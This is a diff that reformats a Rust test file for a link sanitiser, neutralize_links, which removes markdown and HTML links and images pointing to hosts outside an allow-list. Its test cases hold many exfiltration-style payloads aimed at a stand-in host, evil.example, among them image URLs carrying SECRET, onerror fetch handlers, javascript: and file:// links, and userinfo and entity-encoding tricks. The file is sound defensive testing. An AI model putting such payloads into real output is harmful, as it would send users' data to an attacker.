@@ -2,55 +2,30 @@
 use super::*;
 
 fn allowed() -> Vec<String> {
-    vec![
-        "docs.example.com".to_string(),
-        "*.cdn.example.com".to_string(),
-    ]
+    vec!["docs.example.com".to_string(), "*.cdn.example.com".to_string()]
 }
 
 fn check(name: &str, input: &str, want: &str) {
     let hosts = allowed();
     let out = neutralize_links(input, &hosts);
     assert_eq!(out, want, "case {name}");
-    assert!(
-        !out.contains("SECRET"),
-        "case {name}: secret left in {out:?}"
-    );
+    assert!(!out.contains("SECRET"), "case {name}: secret left in {out:?}");
     let again = neutralize_links(&out, &hosts);
-    assert!(
-        matches!(again, Cow::Borrowed(_)),
-        "case {name}: not settled: {again:?}"
-    );
+    assert!(matches!(again, Cow::Borrowed(_)), "case {name}: not settled: {again:?}");
 }
 
 #[test]
 fn markdown_links_and_images() {
     let cases = [
-        (
-            "allowed image",
-            "![logo](https://docs.example.com/logo.png)",
-            "![logo](https://docs.example.com/logo.png)",
-        ),
+        ("allowed image", "![logo](https://docs.example.com/logo.png)", "![logo](https://docs.example.com/logo.png)"),
         (
             "disallowed image",
             "See ![x](https://evil.example/?q=SECRET) here",
             "See [image removed: host not allowed] here",
         ),
-        (
-            "link with title",
-            "[docs](https://evil.example/SECRET \"Title\")",
-            "docs [link removed: host not allowed]",
-        ),
-        (
-            "empty link",
-            "[](https://evil.example/SECRET)",
-            "[link removed: host not allowed]",
-        ),
-        (
-            "emphasis in link",
-            "[**b** c](https://evil.example/SECRET)",
-            "**b** c [link removed: host not allowed]",
-        ),
+        ("link with title", "[docs](https://evil.example/SECRET \"Title\")", "docs [link removed: host not allowed]"),
+        ("empty link", "[](https://evil.example/SECRET)", "[link removed: host not allowed]"),
+        ("emphasis in link", "[**b** c](https://evil.example/SECRET)", "**b** c [link removed: host not allowed]"),
         (
             "nested blocked image",
             "[![i](https://evil.example/SECRET.png)](https://evil.example/)",
@@ -86,101 +61,29 @@ fn markdown_links_and_images() {
             "- [a][r]\n- [r]: https://docs.example.com/\n- [r]: https://evil.example/SECRET\n",
             "- [a][r]\n- [r]: https://docs.example.com/\n- \n",
         ),
-        (
-            "unused definition",
-            "text\n\n[u]: https://evil.example/SECRET \"t\"\n",
-            "text\n\n",
-        ),
-        (
-            "autolink",
-            "mail <https://evil.example/?SECRET> now",
-            "mail [link removed: host not allowed] now",
-        ),
-        (
-            "email autolink kept",
-            "write <help@example.com>",
-            "write <help@example.com>",
-        ),
-        (
-            "javascript link",
-            "[x](javascript:alert('SECRET'))",
-            "x [link removed: host not allowed]",
-        ),
-        (
-            "data image",
-            "![x](data:image/png;base64,SECRET)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "file link",
-            "[x](file:///etc/SECRET)",
-            "x [link removed: host not allowed]",
-        ),
-        (
-            "mailto with query",
-            "[m](mailto:a@b.example?body=SECRET)",
-            "m [link removed: host not allowed]",
-        ),
-        (
-            "mailto kept",
-            "[m](mailto:help@example.com)",
-            "[m](mailto:help@example.com)",
-        ),
-        (
-            "userinfo trick",
-            "![x](https://docs.example.com@evil.example/SECRET)",
-            "[image removed: host not allowed]",
-        ),
+        ("unused definition", "text\n\n[u]: https://evil.example/SECRET \"t\"\n", "text\n\n"),
+        ("autolink", "mail <https://evil.example/?SECRET> now", "mail [link removed: host not allowed] now"),
+        ("email autolink kept", "write <help@example.com>", "write <help@example.com>"),
+        ("javascript link", "[x](javascript:alert('SECRET'))", "x [link removed: host not allowed]"),
+        ("data image", "![x](data:image/png;base64,SECRET)", "[image removed: host not allowed]"),
+        ("file link", "[x](file:///etc/SECRET)", "x [link removed: host not allowed]"),
+        ("mailto with query", "[m](mailto:a@b.example?body=SECRET)", "m [link removed: host not allowed]"),
+        ("mailto kept", "[m](mailto:help@example.com)", "[m](mailto:help@example.com)"),
+        ("userinfo trick", "![x](https://docs.example.com@evil.example/SECRET)", "[image removed: host not allowed]"),
         (
             "port userinfo trick",
             "[x](https://docs.example.com:443@evil.example/SECRET)",
             "x [link removed: host not allowed]",
         ),
-        (
-            "protocol relative",
-            "![x](//evil.example/SECRET.png)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "backslash",
-            "![x](https:/\\evil.example/SECRET)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "entity in destination",
-            "![x](https&#58;//evil.example/SECRET)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "uppercase allowed host",
-            "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)",
-            "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)",
-        ),
-        (
-            "uppercase evil host",
-            "![x](https://EVIL.example/SECRET)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "port and trailing dot",
-            "[a](https://docs.example.com.:8443/a)",
-            "[a](https://docs.example.com.:8443/a)",
-        ),
-        (
-            "wildcard subdomain",
-            "![x](https://img.cdn.example.com/a.png)",
-            "![x](https://img.cdn.example.com/a.png)",
-        ),
-        (
-            "wildcard apex",
-            "![x](https://cdn.example.com/SECRET)",
-            "[image removed: host not allowed]",
-        ),
-        (
-            "wildcard lookalike",
-            "![x](https://evilcdn.example.com/SECRET)",
-            "[image removed: host not allowed]",
-        ),
+        ("protocol relative", "![x](//evil.example/SECRET.png)", "[image removed: host not allowed]"),
+        ("backslash", "![x](https:/\\evil.example/SECRET)", "[image removed: host not allowed]"),
+        ("entity in destination", "![x](https&#58;//evil.example/SECRET)", "[image removed: host not allowed]"),
+        ("uppercase allowed host", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)", "![x](HTTPS://DOCS.EXAMPLE.COM/a.png)"),
+        ("uppercase evil host", "![x](https://EVIL.example/SECRET)", "[image removed: host not allowed]"),
+        ("port and trailing dot", "[a](https://docs.example.com.:8443/a)", "[a](https://docs.example.com.:8443/a)"),
+        ("wildcard subdomain", "![x](https://img.cdn.example.com/a.png)", "![x](https://img.cdn.example.com/a.png)"),
+        ("wildcard apex", "![x](https://cdn.example.com/SECRET)", "[image removed: host not allowed]"),
+        ("wildcard lookalike", "![x](https://evilcdn.example.com/SECRET)", "[image removed: host not allowed]"),
         (
             "relative links",
             "[r](docs/refunds.md) [a](#anchor) [u](../x.md) [q](?a=1)",
@@ -191,11 +94,7 @@ fn markdown_links_and_images() {
             "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
             "`![x](https://evil.example/?q=1)`\n\n```\n![x](https://evil.example/?q=1)\n```\n",
         ),
-        (
-            "bare url kept",
-            "see https://evil.example/?q=1",
-            "see https://evil.example/?q=1",
-        ),
+        ("bare url kept", "see https://evil.example/?q=1", "see https://evil.example/?q=1"),
         (
             "removal makes a link",
             "![a](https://evil.example/)(https://evil.example/?SECRET)",
@@ -210,117 +109,37 @@ fn markdown_links_and_images() {
 #[test]
 fn raw_html() {
     let cases = [
-        (
-            "img block",
-            "<img src=\"https://evil.example/p.png?SECRET\">",
-            "[html removed]",
-        ),
-        (
-            "inline img",
-            "a <img src='https://evil.example/?SECRET'> b",
-            "a [html removed] b",
-        ),
-        (
-            "a href",
-            "<a href=\"https://evil.example/SECRET\">click</a>",
-            "[html removed]click</a>",
-        ),
-        (
-            "allowed img",
-            "<img src=\"https://docs.example.com/x.png\">",
-            "<img src=\"https://docs.example.com/x.png\">",
-        ),
-        (
-            "relative a",
-            "a <a href=\"docs/x.md\">x</a>",
-            "a <a href=\"docs/x.md\">x</a>",
-        ),
-        (
-            "script block",
-            "<script>fetch('/SECRET')</script>\n\nafter",
-            "[html removed]\n\nafter",
-        ),
-        (
-            "iframe",
-            "<iframe src=\"docs/x.md\"></iframe>",
-            "[html removed]",
-        ),
-        (
-            "base",
-            "<base href=\"https://evil.example/\">",
-            "[html removed]",
-        ),
-        (
-            "entity scheme",
-            "<img src=\"https&#58;//evil.example/SECRET\">",
-            "[html removed]",
-        ),
-        (
-            "hex entity",
-            "<img src=\"&#x68;ttps://evil.example/SECRET\">",
-            "[html removed]",
-        ),
-        (
-            "unknown entity",
-            "<img src=\"https&colon&foo;//x\">",
-            "[html removed]",
-        ),
-        (
-            "unquoted value",
-            "<img src=https://evil.example/SECRET>",
-            "[html removed]",
-        ),
-        (
-            "slash after name",
-            "a <img src=x.png/ src=https://evil.example/SECRET> b",
-            "a [html removed] b",
-        ),
+        ("img block", "<img src=\"https://evil.example/p.png?SECRET\">", "[html removed]"),
+        ("inline img", "a <img src='https://evil.example/?SECRET'> b", "a [html removed] b"),
+        ("a href", "<a href=\"https://evil.example/SECRET\">click</a>", "[html removed]click</a>"),
+        ("allowed img", "<img src=\"https://docs.example.com/x.png\">", "<img src=\"https://docs.example.com/x.png\">"),
+        ("relative a", "a <a href=\"docs/x.md\">x</a>", "a <a href=\"docs/x.md\">x</a>"),
+        ("script block", "<script>fetch('/SECRET')</script>\n\nafter", "[html removed]\n\nafter"),
+        ("iframe", "<iframe src=\"docs/x.md\"></iframe>", "[html removed]"),
+        ("base", "<base href=\"https://evil.example/\">", "[html removed]"),
+        ("entity scheme", "<img src=\"https&#58;//evil.example/SECRET\">", "[html removed]"),
+        ("hex entity", "<img src=\"&#x68;ttps://evil.example/SECRET\">", "[html removed]"),
+        ("unknown entity", "<img src=\"https&colon&foo;//x\">", "[html removed]"),
+        ("unquoted value", "<img src=https://evil.example/SECRET>", "[html removed]"),
+        ("slash after name", "a <img src=x.png/ src=https://evil.example/SECRET> b", "a [html removed] b"),
         // Not HTML to CommonMark, but a tag to a browser if the answer is ever inserted as HTML.
-        (
-            "text to CommonMark, a tag to a browser",
-            "<img/src=https://evil.example/q>",
-            "[html removed]",
-        ),
-        (
-            "unquoted value with = and ?",
-            "see <img src=https://evil.example/?d=S8> here",
-            "see [html removed] here",
-        ),
-        (
-            "object with data",
-            "<object data=https://evil.example/?d=1>",
-            "[html removed]",
-        ),
+        ("text to CommonMark, a tag to a browser", "<img/src=https://evil.example/q>", "[html removed]"),
+        ("unquoted value with = and ?", "see <img src=https://evil.example/?d=S8> here", "see [html removed] here"),
+        ("object with data", "<object data=https://evil.example/?d=1>", "[html removed]"),
         (
             "srcset",
             "<img src=\"https://docs.example.com/a.png\" srcset=\"https://evil.example/SECRET 2x\">",
             "[html removed]",
         ),
-        (
-            "event handler",
-            "<img src=\"x.png\" onerror=\"fetch('SECRET')\">",
-            "[html removed]",
-        ),
-        (
-            "style url",
-            "<div style=\"background:url(https://evil.example/SECRET)\">x</div>",
-            "[html removed]x</div>",
-        ),
-        (
-            "quoted gt",
-            "<img alt=\"a>b\" src=\"https://evil.example/SECRET\">",
-            "[html removed]",
-        ),
+        ("event handler", "<img src=\"x.png\" onerror=\"fetch('SECRET')\">", "[html removed]"),
+        ("style url", "<div style=\"background:url(https://evil.example/SECRET)\">x</div>", "[html removed]x</div>"),
+        ("quoted gt", "<img alt=\"a>b\" src=\"https://evil.example/SECRET\">", "[html removed]"),
         (
             "tag over lines in quote",
             "> <div\n> style=\"background:url(//evil.example/SECRET)\">\n> hi\n",
             "> [html removed]\n> hi\n",
         ),
-        (
-            "unterminated",
-            "<div title=\"x\n\ntext",
-            "[html removed]\n\ntext",
-        ),
+        ("unterminated", "<div title=\"x\n\ntext", "[html removed]\n\ntext"),
         ("comment kept", "<!-- note -->\n", "<!-- note -->\n"),
     ];
     for (name, input, want) in cases {
@@ -331,32 +150,18 @@ fn raw_html() {
 #[test]
 fn unchanged_answers_are_borrowed() {
     let hosts = allowed();
-    for answer in [
-        "Refunds take 5 days.",
-        "",
-        "[ok](https://docs.example.com/a)",
-        "`<img src=//evil>`",
-    ] {
-        assert!(
-            matches!(neutralize_links(answer, &hosts), Cow::Borrowed(_)),
-            "{answer:?}"
-        );
+    for answer in ["Refunds take 5 days.", "", "[ok](https://docs.example.com/a)", "`<img src=//evil>`"] {
+        assert!(matches!(neutralize_links(answer, &hosts), Cow::Borrowed(_)), "{answer:?}");
     }
 }
 
 #[test]
 fn endless_chains_fall_back_to_escaping() {
     let hosts = allowed();
-    let answer = format!(
-        "![a](https://evil.example/){}",
-        "(https://evil.example/)".repeat(12)
-    );
+    let answer = format!("![a](https://evil.example/){}", "(https://evil.example/)".repeat(12));
     let out = neutralize_links(&answer, &hosts);
     assert!(!out.contains('[') || out.contains("\\["), "{out:?}");
-    assert!(
-        matches!(neutralize_links(&out, &hosts), Cow::Borrowed(_)),
-        "{out:?}"
-    );
+    assert!(matches!(neutralize_links(&out, &hosts), Cow::Borrowed(_)), "{out:?}");
 }
 
 #[test]
